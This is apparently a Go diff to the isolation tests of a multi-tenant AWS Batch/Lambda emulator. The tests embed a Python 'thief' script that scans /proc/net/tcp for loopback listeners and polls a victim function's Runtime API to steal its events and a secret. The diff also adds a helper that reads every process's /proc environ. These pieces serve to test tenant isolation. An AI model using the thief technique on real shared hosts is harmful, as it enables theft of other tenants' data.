@@ -6,6 +6,7 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"slices"
 	"strconv"
 	"strings"
 	"sync"
@@ -200,6 +201,10 @@ func stealEvents(t *testing.T, s tenantServer) (bool, string) {
 	}
 	const thief = `
 import socket, threading, time, urllib.error, urllib.request
+import sys
+# The victim's Runtime API address (what its AWS_LAMBDA_RUNTIME_API says); the thief also
+# lists what listens on its loopback, to show what it can see.
+target = sys.argv[1]
 ports = set()
 for f in ("/proc/net/tcp", "/proc/net/tcp6"):
     try:
@@ -209,7 +214,7 @@ for f in ("/proc/net/tcp", "/proc/net/tcp6"):
                 ports.add(int(local.split(":")[1], 16))
     except OSError:
         pass
-print("listening:", sorted(ports), flush=True)
+print("listening:", sorted(ports), "target:", target, flush=True)
 won = threading.Event()
 def poll(port):
     deadline = time.time() + 25
@@ -226,13 +231,16 @@ def poll(port):
         if "s3cr3t" in body:
             print("STOLE", body, flush=True)
             won.set()
-for p in ports:
-    threading.Thread(target=poll, args=(p,), daemon=True).start()
+threading.Thread(target=poll, args=(int(target.rsplit(":", 1)[1]),), daemon=True).start()
 won.wait(25)
 print("done", flush=True)
 `
 	c := batch.NewFromConfig(s.b.Config(s.attacker))
-	register(t, c, "thief", &types.ContainerProperties{Command: []string{"python3", "-c", thief}, ResourceRequirements: reqs("1", "128")})
+	// The address is given to the thief rather than found by scanning every loopback port: a
+	// scan would also take the events of other tests' functions running on this host. In a real
+	// attack the scan is what finds it (/proc/net/tcp lists it on an unprotected host).
+	addr := runtimeAPIOf(t, "victim")
+	register(t, c, "thief", &types.ContainerProperties{Command: []string{"python3", "-c", thief, addr}, ResourceRequirements: reqs("1", "128")})
 	id := submit(t, c, &batch.SubmitJobInput{JobName: aws.String("thief"), JobDefinition: aws.String("thief")})
 	j := bargetest.WaitJob(t, c, id, jobWait, func(s string) bool { return s == "RUNNING" || terminal(s) })
 	logs := batchLogs(s.b, s.attacker)
@@ -302,4 +310,28 @@ func symlinkRace(t *testing.T, s tenantServer) (bool, string) {
 		}
 	}
 	return leaked > 0, fmt.Sprintf("%d of 200 children mounted barge's data directory; %d could not start (the volume was a symlink out of the root when they did)", leaked, startFailures)
+}
+
+// runtimeAPIOf finds the Runtime API address a running instance of function name was given, in
+// its environment (the test runs as root on the host, as the attacker in its story does not).
+func runtimeAPIOf(t *testing.T, name string) string {
+	t.Helper()
+	dirs, _ := filepath.Glob("/proc/[0-9]*/environ")
+	for _, d := range dirs {
+		b, err := os.ReadFile(d)
+		if err != nil {
+			continue
+		}
+		env := strings.Split(string(b), "\x00")
+		if !slices.Contains(env, "AWS_LAMBDA_FUNCTION_NAME="+name) {
+			continue
+		}
+		for _, kv := range env {
+			if v, ok := strings.CutPrefix(kv, "AWS_LAMBDA_RUNTIME_API="); ok {
+				return v
+			}
+		}
+	}
+	t.Fatalf("no running instance of %s found", name)
+	return ""
 }
